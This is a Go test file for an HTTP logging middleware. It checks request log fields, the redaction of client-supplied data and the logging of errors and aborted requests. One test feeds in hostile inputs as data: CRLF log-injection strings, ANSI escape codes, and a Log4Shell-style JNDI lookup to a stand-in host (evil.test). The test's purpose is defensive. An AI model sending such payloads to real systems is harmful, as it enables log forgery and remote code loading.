package middleware

import (
	"errors"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"dagpass/internal/access"
)

func TestARequestIsOneLine(t *testing.T) {
	s := newSite(t, serveConsole(func(w http.ResponseWriter, r *http.Request) {
		info := InfoFrom(r.Context())
		info.Route, info.ActorKind, info.ActorID = "/w/:ws/tokens", access.UserActor, "cuser"
		w.WriteHeader(http.StatusNotFound)
		fmt.Fprint(w, "12345")
	}))
	s.send(t, "GET", "/w/abc/tokens?q=secret", "", RequestIDHeader, "some-request")

	rec := s.oneRecord(t, "request")
	if took, ok := rec["duration_ms"].(float64); !ok || took <= 0 {
		t.Errorf("duration_ms is %v, want a positive number", rec["duration_ms"])
	}
	delete(rec, "time")
	delete(rec, "duration_ms")
	want := record{
		"level": "INFO", "msg": "request", "request_id": "some-request", "method": "GET",
		"route": "/w/:ws/tokens", "status": 404.0, "bytes": 5.0,
		"actor_kind": "user", "actor_id": "cuser", "address": "127.0.0.1",
	}
	if diff := cmp.Diff(want, rec); diff != "" {
		t.Error(diff)
	}
}

func TestNothingTheClientWroteIsLogged(t *testing.T) {
	s := newSite(t, nil)
	const canary = "canary-9d8f7"
	s.send(t, "POST", "/"+canary+"?q="+canary, "password="+canary,
		"Authorization", "Bearer "+canary, "Cookie", "a="+canary, "User-Agent", canary, "Referer", "https://"+canary,
		"X-Forwarded-For", canary, RequestIDHeader, canary+"_", "Sec-Fetch-Site", "same-origin")
	s.send(t, canary, "/", "")
	s.records(t, "request")
	if strings.Contains(s.log.String(), canary) {
		t.Errorf("the log repeats what the client sent:\n%s", s.log)
	}
}

func TestNoInputBreaksALogLine(t *testing.T) {
	nasty := []string{
		"\r\n{\"msg\":\"request\"}", "\x1b[2J\x1b]0;owned\a", "\u009b31m", `"}`, "\u2028", "a\x00b", "%0d%0a",
		"\xff\xfe", "\u202e", "${jndi:ldap://evil.test}",
	}
	s := newSite(t, func(c *Config) {
		c.TrustedProxies = prefixes(t, "127.0.0.1/32")
		c.Console.Handler = http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
			info := InfoFrom(r.Context())
			info.Err = errors.New(nasty[len(r.URL.RawQuery)])
			info.Route, info.ActorID = nasty[len(r.URL.RawQuery)], nasty[len(r.URL.RawQuery)]
		})
	})
	for i, text := range nasty {
		target := "/?" + strings.Repeat("x", i)
		s.send(t, "GET", target, "")
		header := strings.NewReplacer("\r", "", "\n", "", "\x00", "", "\x1b", "", "\a", "").Replace(text)
		s.send(t, "GET", target, "", "X-Forwarded-For", "fe80::1%"+header, RequestIDHeader, header, "User-Agent", header)
	}
	if got, want := len(s.records(t, "request")), 2*len(nasty); got != want {
		t.Errorf("%d request lines for %d requests", got, want)
	}
	if strings.ContainsAny(s.log.String(), "\r\x1b\x00\a\u2028") {
		t.Errorf("control characters reached the log: %q", s.log)
	}
	for _, rec := range s.records(t, "request") {
		if a := rec["address"]; a != "127.0.0.1" && a != "fe80::1" {
			t.Errorf("logged address %q", a)
		}
	}
}

func TestAnInternalErrorIsLoggedApartWithItsCause(t *testing.T) {
	s := newSite(t, serveConsole(func(w http.ResponseWriter, r *http.Request) {
		info := InfoFrom(r.Context())
		info.Route, info.Err = "/w", fmt.Errorf("list: %w", errors.New("disk on fire"))
		w.WriteHeader(http.StatusInternalServerError)
	}))
	got := s.send(t, "GET", "/w", "")
	rec := s.oneRecord(t, "internal error")
	delete(rec, "time")
	want := record{
		"level": "ERROR", "msg": "internal error", "request_id": got.header.Get(RequestIDHeader),
		"route": "/w", "cause": "list: disk on fire",
	}
	if diff := cmp.Diff(want, rec); diff != "" {
		t.Error(diff)
	}
}

func TestOutsideTheChainTheRecordIsThrownAway(t *testing.T) {
	InfoFrom(t.Context()).Route = "/x"
	if got := InfoFrom(t.Context()); *got != (Info{}) {
		t.Errorf("got %+v, want an empty record", *got)
	}
}

func TestAnAbortedRequestIsLoggedAsSuch(t *testing.T) {
	s := newSite(t, serveConsole(func(http.ResponseWriter, *http.Request) { panic(http.ErrAbortHandler) }))
	conn := s.dial(t)
	fmt.Fprint(conn, "GET / HTTP/1.1\r\nHost: app.test\r\n\r\n")
	if n, err := conn.Read(make([]byte, 1)); n != 0 || err == nil {
		t.Errorf("read %d bytes, error %v; want a closed connection", n, err)
	}
	if rec := s.oneRecord(t, "request"); rec["aborted"] != true || rec["status"] != 0.0 {
		t.Errorf("got %v, want aborted with status 0", rec)
	}
	if panics := s.records(t, "panic"); len(panics) != 0 {
		t.Errorf("a wanted abort was logged as a panic: %v", panics)
	}
}
